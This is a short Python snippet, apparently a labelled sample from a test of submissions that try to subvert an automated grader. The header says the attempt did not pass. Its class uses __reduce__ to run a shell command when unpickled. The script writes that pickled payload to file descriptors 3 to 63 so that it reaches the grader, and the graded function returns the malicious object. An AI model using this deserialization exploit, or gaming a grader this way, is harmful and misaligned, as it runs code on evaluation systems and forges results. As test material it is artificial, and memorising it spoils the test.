# TRIES: returns an object, and writes a byte stream, that runs code when unpickled | CORRECT: not passed; nothing executed in the grader (no pickle crosses) | ENDS: forged
import os, pickle
class P:
    def __reduce__(self): return (os.system, ("touch {{WORLD}}/course/pwned_by_pickle",))
    def __float__(self): return 0.0
for fd in range(3, 64):
    try: os.write(fd, pickle.dumps(P()))
    except OSError: pass
def df(x): return P()
